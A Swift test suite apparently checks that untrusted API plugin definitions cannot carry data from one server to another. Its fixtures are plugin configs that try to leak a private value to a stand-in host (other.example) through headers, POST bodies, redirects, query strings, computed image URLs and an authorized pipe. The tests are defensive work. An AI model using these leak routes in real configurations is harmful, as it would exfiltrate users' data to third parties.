import Foundation
import TestSupport
import Testing

/// Without trust, nothing else carries data of one server to another: fields, bodies, computed images, counts. Public hosts
/// are behind a proxy here.
struct UntrustedCarrierTests {
    /// A definition that carries an item's value elsewhere.
    struct Carrier: Sendable, CustomTestStringConvertible {
        let testDescription: String
        /// Lines of the plugin.
        let plugin: String
        var command = "feed api/list --all"
        /// Whether it works with trust.
        var worksWithTrust = true
    }

    private static let parents = """
        parents: {path: /parents, items: .a, id: .id, fields: {}}
        """

    private static func children(_ keys: String) -> String {
        """
        hosts: [http://other.example]
        endpoints:
          \(parents)
          list:
            each: {name: {endpoint: parents, value: .id}}
            path: /named
            \(keys)
            items: .a
            id: .id
            fields: {}
            pagination: {strategy: link, next: .next}
        """
    }

    private static func cursor(_ keys: String) -> String {
        """
        endpoints:
          list:
            path: /cursor
            items: .a
            id: .id
            fields: {}
            pagination: {strategy: cursor, token: .token, \(keys)}
        """
    }

    static let carriers = [
        Carrier(testDescription: "header of a next link", plugin: children("headers: {X-Leak: \"{name}\"}")),
        Carrier(
            testDescription: "body of a next link", plugin: children("method: POST\n    json: {leak: \"{name}\"}")),
        Carrier(
            testDescription: "position in a header behind a redirect", plugin: cursor("cursor: {header: X-Pos}")),
        Carrier(
            testDescription: "safelisted field behind a redirect",
            plugin: """
                endpoints:
                  \(parents)
                  list:
                    each: {name: {endpoint: parents, value: .id}}
                    path: /redirect
                    headers: {Accept: "application/{name}"}
                    items: .a
                    id: .id
                """),
        Carrier(
            testDescription: "redirect that the definition asks for",
            plugin: """
                endpoints:
                  \(parents)
                  list:
                    each: {name: {endpoint: parents, value: .id}}
                    path: /go
                    query: {to: "http://other.example/{name}"}
                    items: .a
                    id: .id
                """),
        Carrier(
            testDescription: "redirect of a later page",
            plugin: cursor(
                "cursor: {query: c}, later: {path: /go, query: {to: \"http://other.example/{cursor}\"}}")),
        Carrier(
            testDescription: "image of a computed item",
            plugin: """
                endpoints:
                  list:
                    path: /parents
                    items: '[.a[] | {id, image: ("http://other.example/?d=" + .id)}]'
                    id: .id
                    fields: {image: .image}
                """, command: "feed api/list --all --images pictures"),
        Carrier(
            testDescription: "pipe to a host under auth",
            plugin: """
                auth: {bearer: k3y-in-the-file, hosts: [http://other.example]}
                endpoints:
                  list:
                    path: /list
                    comments:
                      path: /named
                      headers: {X-Leak: "{id}"}
                      items: .a
                      id: .id
                      pagination: {strategy: link, next: .next}
                """, command: "comments api/list - --all"),
    ]

    private func proxy() throws -> ScriptedServer {
        try ScriptedServer { request, _ in
            let target = request.target
            if target.hasPrefix("http://other.example") { return .response(body: #"{"a":[]}"#) }
            switch target {
            case "http://api.example/parents": return .response(body: #"{"a":[{"id":"PRIVATE"}]}"#)
            case "http://api.example/named":
                return .response(body: #"{"a":[],"next":"http://other.example/2"}"#)
            case "http://api.example/cursor" where request["X-Pos"] == nil:
                return .response(body: #"{"a":[{"id":1}],"token":"PRIVATE"}"#)
            default:
                let asked = target.split(separator: "to=").last.flatMap { String($0).removingPercentEncoding }
                let location = target.contains("/go?") ? asked : nil
                return .response(
                    status: 302, fields: ["Location: \(location ?? "http://other.example/2")"], body: "")
            }
        }
    }

    private func elsewhere(_ proxy: ScriptedServer) -> [String] {
        proxy.requests.filter { $0.target.hasPrefix("http://other.example") }
            .map { "\($0.target) \($0.fieldLines) \($0.body)" }
    }

    @Test(arguments: carriers)
    func data_staysOnItsServer(carrier: Carrier) throws {
        let proxy = try self.proxy()
        let lines = carrier.plugin.split(separator: "\n").map { "    \($0)" }.joined(separator: "\n")
        let project = try Project(
            "version: 1\nplugins:\n  api:\n    base_url: http://api.example\n\(lines)\n")
        let line = { try project.run(carrier.command, input: "PRIVATE\n", with: "http_proxy=\(proxy.baseURL)") }
        let run = try line()
        #expect(!proxy.requests.isEmpty || run.code == 4, "\(run)")
        #expect(!elsewhere(proxy).contains { $0.contains("PRIVATE") }, "\(elsewhere(proxy))")
        // With trust, the definition does what it says.
        #expect(try project.run("plugins trust --force").code == 0)
        _ = try line()
        #expect(elsewhere(proxy).contains { $0.contains("PRIVATE") }, "\(proxy.requests.map(\.target))")
    }

    /// The number of items is data of their server.
    @Test(arguments: [("offset: {query: start}", "offset", false), ("page: {query: p}", "page", true)])
    func count_isSentToItsServerOnly(place: String, strategy: String, isSent: Bool) throws {
        let proxy = try ScriptedServer { request, _ in
            switch request.target {
            case "http://api.example/list?start=0", "http://api.example/list?p=1":
                .response(status: 302, fields: ["Location: http://other.example/x"], body: "")
            case "http://other.example/x": .response(body: #"{"pin":4321}"#)
            default: .response(body: #"{"pin":0}"#)
            }
        }
        let project = try Project(
            """
            version: 1
            plugins:
              api:
                base_url: http://api.example
                endpoints:
                  list: {path: /list, items: '[range(.pin)]', pagination: {strategy: \(strategy), \(place)}}
            """)
        let run = try project.run("feed api/list --all", with: "http_proxy=\(proxy.baseURL)")
        let later = proxy.requests.map(\.target).filter { $0.hasSuffix("start=4321") || $0.hasSuffix("p=2") }
        #expect(later.isEmpty == !isSent && (run.code == 0) == isSent, "\(later) \(run.error)")
    }
}
